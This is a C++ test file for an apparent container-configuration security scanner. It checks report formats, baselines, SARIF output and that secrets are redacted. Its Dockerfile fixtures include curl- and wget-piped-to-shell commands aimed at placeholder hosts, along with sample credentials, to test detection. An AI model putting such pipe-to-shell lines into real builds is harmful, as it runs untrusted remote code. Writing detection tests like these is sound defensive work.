// Reports as people make them: the executable, real files, every format.

#include <gtest/gtest.h>

#include <cstdio>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "process.h"

namespace plimsoll::test {
namespace {

using Json = nlohmann::json;

constexpr const char* kBad =
    "FROM node:22\nENV DB_PASSWORD=k7Qm2xLp9wTz\nUSER root\nRUN curl http://x.example/i.sh | sh\n";

TEST(Reports, NoFormatShowsASecret) {
  const Folder folder;
  folder.write("Dockerfile", kBad);
  folder.write("secret.yaml",
               "apiVersion: v1\nkind: Secret\nmetadata: {name: web}\ndata:\n"
               "  password: azdRbTJ4THA5d1R6Zz0=\n  user: YWRh\n");
  folder.write("compose.yaml",
               "services:\n  web:\n    image: nginx:1.27\n    environment:\n"
               "      - FERNET_KEY=46BKJoQYlPPOexq0OhDZnIlNepKFf87WFwLbfzqDDho=\n");
  for (const char* format :
       {"table", "json", "html", "sarif", "junit", "markdown", "github", "gitlab", "csv"}) {
    const Outcome outcome = plimsoll({"audit", "--rules", "all", "--verbose", "--with-source",
                                      "--format", format, folder.path()});
    if (std::string(format) == "html" && outcome.status == 2) {
      EXPECT_NE(outcome.err.find("built without the HTML report"), std::string::npos);
      std::puts("skipped: html (built without PLIMSOLL_WEB)");
      continue;
    }
    EXPECT_EQ(outcome.status, 1) << format << outcome.err;
    EXPECT_NE(outcome.out.find("secret-in-image-environment"), std::string::npos) << format;
    for (const char* secret :
         {"k7Qm2xLp9wTz", "azdRbTJ4THA5d1R6", "46BKJoQYlPPOexq0OhDZnIlNepKFf87W"}) {
      EXPECT_EQ(outcome.out.find(secret), std::string::npos) << format << ' ' << secret;
    }
  }
}

TEST(Reports, ASavedReportIsPrintedAsIfItWereNew) {
  const Folder folder;
  folder.write("src/Dockerfile", kBad);
  const std::string saved = folder.path() + "/saved.json";
  EXPECT_EQ(
      plimsoll({"audit", "--format", "json", "--with-source", "-o", saved, folder.path() + "/src"})
          .status,
      1);
  for (const char* format : {"json", "sarif", "junit", "gitlab", "github", "csv"}) {
    std::vector<std::string> fresh{"audit", "--format", format, folder.path() + "/src"};
    if (std::string(format) == "json") fresh.emplace_back("--with-source");
    const Outcome again = plimsoll({"report", "--format", format, saved});
    EXPECT_EQ(again.status, 0) << again.err;
    EXPECT_EQ(again.out, plimsoll(fresh).out) << format;
  }
}

TEST(Reports, ASavedReportKeepsWhatABaselineSaysOfIt) {
  const Folder folder;
  const std::string file = folder.write("Dockerfile", kBad);
  const std::string baseline = folder.path() + "/known.jsonl";
  EXPECT_EQ(plimsoll({"audit", file, "--baseline", baseline, "--update-baseline"}).status, 0);
  folder.write("Dockerfile", "FROM node:22\nUSER root\nRUN wget -O- http://y.example/i.sh | sh\n");
  const std::string saved = folder.path() + "/saved.json";
  const Outcome made = plimsoll({"audit", file, "--baseline", baseline, "--with-source", "--format",
                                 "json", "-o", saved, "--fail-on", "none"});
  EXPECT_EQ(made.status, 0) << made.err;
  const Json report = Json::parse(plimsoll({"report", "--format", "json", saved}).out);
  EXPECT_FALSE(report["fixed"].empty());
  for (const char* format : {"table", "markdown", "sarif", "csv", "junit", "github"}) {
    EXPECT_EQ(plimsoll({"report", "--format", format, saved}).out,
              plimsoll({"audit", file, "--baseline", baseline, "--format", format}).out)
        << format;
  }
}

TEST(Reports, AreTheSameBytesInEveryFolderAndOnEveryNumberOfThreads) {
  const Folder here;
  const Folder there;
  for (const Folder* folder : {&here, &there}) {
    folder->write("a/Dockerfile", kBad);
    folder->write("b/compose.yaml", "services:\n  web:\n    build: ../a\n    privileged: true\n");
    folder->write("c/pod.yaml",
                  "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n"
                  "    - {name: b, image: nginx}\n");
  }
  for (const char* format : {"json", "sarif", "table", "junit", "markdown", "csv"}) {
    const std::vector<std::string> arguments{"audit", "--rules", "all", "--format", format, "."};
    std::vector<std::string> one = arguments;
    one.insert(one.end(), {"--jobs", "1"});
    std::vector<std::string> eight = arguments;
    eight.insert(eight.end(), {"--jobs", "8"});
    const std::string first = plimsoll_in(here.path(), one).out;
    EXPECT_GT(first.size(), 100U);
    EXPECT_EQ(plimsoll_in(here.path(), eight).out, first) << format;
    EXPECT_EQ(plimsoll_in(there.path(), eight).out, first) << format;
  }
}

TEST(Reports, WhatIsNoReportIsRejectedByName) {
  const Folder folder;
  const Outcome outcome = plimsoll({"report", folder.write("x.json", "{\"schema\": \"other\"}")});
  EXPECT_EQ(outcome.status, 3);
  EXPECT_NE(outcome.err.find("x.json"), std::string::npos);
  EXPECT_NE(outcome.err.find("other"), std::string::npos);
  EXPECT_EQ(plimsoll({"report", folder.path() + "/none.json"}).status, 3);
  EXPECT_EQ(plimsoll({"report"}).status, 2);
}

TEST(Reports, TwoAreComparedAsMarkdown) {
  const Folder folder;
  const std::string file = folder.write("Dockerfile", kBad);
  const std::string before = folder.path() + "/before.json";
  const std::string after = folder.path() + "/after.json";
  EXPECT_EQ(plimsoll({"audit", "--format", "json", "-o", before, file}).status, 1);
  folder.write("Dockerfile", "FROM node:22\nADD --chmod=777 http://x.example/a /a\nUSER root\n");
  EXPECT_EQ(plimsoll({"audit", "--rules", "all", "--format", "json", "-o", after, file}).status, 1);
  const Outcome outcome = plimsoll({"report", "--format", "markdown", "--compare", before, after});
  EXPECT_EQ(outcome.status, 0);
  EXPECT_NE(outcome.out.find("new finding"), std::string::npos);
  EXPECT_NE(outcome.out.find("Fixed since the baseline"), std::string::npos);
  EXPECT_NE(outcome.out.find("secret-in-image-environment"), std::string::npos);
}

/// A saved report of an image of this name, which has left-pad 1.3.0 inside and a vulnerability of
/// it.
std::string saved_image(const Folder& folder, const std::string& name) {
  folder.write("feeds/left-pad.json", R"({
    "id": "CVE-2024-0001", "modified": "2024-02-01T00:00:00Z",
    "affected": [{"package": {"ecosystem": "npm", "name": "left-pad"},
      "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "1.3.1"}]}]}]})");
  const std::string database = folder.path() + "/advisories.db";
  EXPECT_EQ(plimsoll({"db", "import", folder.path() + "/feeds", "--db", database, "-q"}).status, 0);
  const std::string bill = folder.write(name + ".cdx.json", R"({
    "bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1,
    "metadata": {"component": {"type": "container", "name": ")" +
                                                                name + R"("}},
    "components": [{"type": "library", "name": "left-pad", "version": "1.3.0",
                    "purl": "pkg:npm/left-pad@1.3.0"}]})");
  const std::string saved = folder.path() + '/' + name + ".json";
  const Outcome made =
      plimsoll({"cves", "sbom:" + bill, "--db", database, "--format", "json", "-o", saved});
  EXPECT_EQ(made.status, 0) << made.err;
  return saved;
}

TEST(Reports, MergedTheyKeepVulnerabilities) {
  const Folder folder;
  const std::string web = saved_image(folder, "web");
  const std::string api = saved_image(folder, "api");
  const Outcome one = plimsoll({"report", "--merge", "--format", "json", web, web});
  EXPECT_EQ(one.err, "");
  EXPECT_EQ(one.out, plimsoll({"report", "--format", "json", web}).out);

  const Outcome both = plimsoll({"report", "--merge", "--format", "json", web, api});
  EXPECT_NE(both.err.find("2 images"), std::string::npos) << both.err;
  const Json merged = Json::parse(both.out);
  EXPECT_TRUE(merged["image"].is_null());
  ASSERT_EQ(merged["vulnerabilities"].size(), 2U);
  EXPECT_EQ(merged["vulnerabilities"][0]["path"], "web:" + folder.path() + "/web.cdx.json");
  EXPECT_EQ(merged["vulnerabilities"][1]["path"], "api:" + folder.path() + "/api.cdx.json");
  for (const char* format : {"table", "markdown", "sarif", "csv", "junit", "trivy-json"}) {
    const Outcome shown = plimsoll({"report", "--merge", "--format", format, web, api});
    EXPECT_NE(shown.out.find("CVE-2024-0001"), std::string::npos) << format;
  }
}

TEST(BaselineFile, LetsWhatIsKnownPassAndFailsOnWhatIsNew) {
  const Folder folder;
  const std::string file = folder.write("Dockerfile", kBad);
  const std::string baseline = folder.path() + "/known.jsonl";
  EXPECT_EQ(plimsoll({"audit", file, "--baseline", baseline}).status, 2);  // there is none
  EXPECT_EQ(plimsoll({"audit", file, "--baseline", baseline, "--update-baseline"}).status, 0);
  EXPECT_EQ(plimsoll({"audit", file, "--baseline", baseline}).status, 0);
  // Lines above do not make a finding new.
  folder.write("Dockerfile", "# one\n# two\n" + std::string(kBad));
  const Outcome moved = plimsoll({"audit", file, "--baseline", baseline});
  EXPECT_EQ(moved.status, 0) << moved.out;
  EXPECT_NE(moved.out.find("No new findings"), std::string::npos) << moved.out;
  folder.write("Dockerfile", std::string(kBad) + "RUN wget -O- http://y.example/i.sh | sh\n");
  const Outcome more = plimsoll({"audit", file, "--baseline", baseline, "--fail-on", "medium"});
  EXPECT_EQ(more.status, 1) << more.out;
  folder.write("Dockerfile", "FROM node:22\nUSER node\n");
  const Outcome less = plimsoll({"audit", file, "--baseline", baseline});
  EXPECT_EQ(less.out.find(" 0 fixed"), std::string::npos) << less.out;
}

TEST(BaselineFile, MayNotBeBroken) {
  const Folder folder;
  const std::string file = folder.write("Dockerfile", kBad);
  const Outcome outcome = plimsoll({"audit", file, "--baseline", folder.write("b", "{}\n")});
  EXPECT_EQ(outcome.status, 2);
  EXPECT_NE(outcome.err.find("b:1:1"), std::string::npos) << outcome.err;
  EXPECT_EQ(plimsoll({"audit", file, "--update-baseline"}).status, 2);
}

TEST(Sarif, HoldsWhatCodeScanningWants) {
  const Folder folder;
  folder.write("Dockerfile", kBad);
  const Json sarif =
      Json::parse(plimsoll_in(folder.path(), {"audit", "--format", "sarif", "."}).out);
  const Json& run = sarif["runs"][0];
  const Json& rules = run["tool"]["driver"]["rules"];
  ASSERT_FALSE(run["results"].empty());
  for (const Json& result : run["results"]) {
    const Json& rule = rules.at(result["ruleIndex"].get<std::size_t>());
    EXPECT_EQ(rule["id"], result["ruleId"]);
    for (const char* key : {"shortDescription", "fullDescription", "help"}) {
      EXPECT_FALSE(rule[key]["text"].get<std::string>().empty()) << rule["id"];
    }
    EXPECT_TRUE(rule["properties"]["security-severity"].is_string()) << rule["id"];
    const Json& place = result["locations"][0]["physicalLocation"];
    EXPECT_EQ(place["artifactLocation"]["uri"], "Dockerfile");
    EXPECT_GT(place["region"]["startLine"].get<int>(), 0);
    EXPECT_FALSE(result["partialFingerprints"]["primaryLocationLineHash"].empty());
  }
}

}  // namespace
}  // namespace plimsoll::test
